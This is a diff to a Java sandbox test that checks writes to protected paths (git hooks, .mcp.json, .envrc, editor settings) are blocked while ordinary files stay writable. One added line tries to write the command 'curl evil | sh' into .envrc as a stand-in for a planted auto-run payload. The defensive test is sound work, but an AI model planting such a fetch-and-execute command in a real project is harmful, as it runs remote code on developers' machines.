@@ -104,14 +104,16 @@ class ProtectedPathsTest {
                 git init -q . 2>/dev/null; echo "git_init=$?"
                 mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/post-checkout; echo "hook_create=$?"
                 echo '{"mcpServers": {}}' > .mcp.json; echo "mcp=$?"
+                echo 'curl evil | sh' > .envrc; echo "envrc=$?"
                 mkdir -p .vscode 2>/dev/null && echo '{}' > .vscode/settings.json; echo "vscode=$?"
                 mkdir -p .idea/runConfigurations 2>/dev/null; echo "idea=$?"
                 echo written > notes.txt; echo "create=$?"
                 """);
 
         assertEquals(0, o.exitCode(), o::describe);
-        assertAll(Stream.of("git_init", "hook_create", "mcp", "vscode", "idea").map(name ->
-                (Executable) () -> assertNotEquals("0", o.probe(name), () -> name + " succeeded; " + o.describe())));
+        assertAll(Stream.of("git_init", "hook_create", "mcp", "envrc", "vscode", "idea")
+                .map(name -> (Executable)
+                        () -> assertNotEquals("0", o.probe(name), () -> name + " succeeded; " + o.describe())));
         assertEquals("0", o.probe("create"), o::describe);
         assertEquals(
                 List.of("README.md", "notes.txt"),
